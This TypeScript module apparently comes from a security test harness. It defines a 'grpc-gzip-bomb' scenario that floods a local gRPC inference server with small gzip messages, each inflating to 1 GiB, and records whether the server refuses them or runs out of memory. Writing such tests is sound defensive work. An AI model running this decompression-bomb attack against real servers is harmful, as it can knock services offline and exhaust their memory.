/**
 * Issue 26 item 1: gRPC ModelInfer messages with `grpc-encoding: gzip`, about 1 MB on the wire each,
 * inflating to ATTACK_BOMB_MIB (1024) MiB of zeros, sent one after another on one connection for
 * ATTACK_SECONDS (5) or ATTACK_BOMBS (20) messages, whichever ends first (at least one). Bounded, each
 * is refused RESOURCE_EXHAUSTED once it inflates past `--grpc-max-input-size`; unbounded, the server
 * inflates and holds every byte (one such message took 25 s and 5 GB: the time bound stops there).
 */
import http2 from 'node:http2';
import { gzipBombFrame, MODEL_INFER, unaryCall } from './grpc-frames.ts';
import type { AttackScenario } from './scenario.ts';

const BOMB_MIB = Number(process.env['ATTACK_BOMB_MIB'] ?? 1024);
const BOMBS = Number(process.env['ATTACK_BOMBS'] ?? 20);
const SECONDS = Number(process.env['ATTACK_SECONDS'] ?? 5);

let frame: Buffer | undefined;

export const grpcGzipBomb: AttackScenario = {
  name: 'grpc-gzip-bomb',
  description: `item 1: gzip ModelInfer messages of ~${(BOMB_MIB / 1024).toFixed(2)} MB on the wire inflating to ${BOMB_MIB} MiB each, back to back for ${SECONDS} s (at most ${BOMBS})`,
  async prepare() {
    frame ??= await gzipBombFrame('neighbour', BOMB_MIB * 2 ** 20);
  },
  async run(target) {
    if (!frame) throw new Error('prepare() builds the bomb first');
    const session = http2.connect(`http://127.0.0.1:${target.grpcPort}`);
    session.on('error', () => undefined);
    const answers = new Map<string, number>();
    let slowest = 0;
    const until = performance.now() + SECONDS * 1000;
    try {
      for (let i = 0; i < BOMBS && (i === 0 || performance.now() < until); i++) {
        const started = performance.now();
        const { code, message } = await unaryCall(session, MODEL_INFER, frame!, 'gzip');
        slowest = Math.max(slowest, performance.now() - started);
        const answer = `status ${code}${message ? ` (${message.slice(0, 160)})` : ''}`;
        answers.set(answer, (answers.get(answer) ?? 0) + 1);
      }
    } finally {
      session.destroy();
    }
    return {
      'bomb on the wire': `${frame!.length} bytes`,
      answers: [...answers].map(([answer, n]) => `${n}x ${answer}`).join('; '),
      'slowest answer': `${(slowest / 1000).toFixed(1)} s`,
    };
  },
};
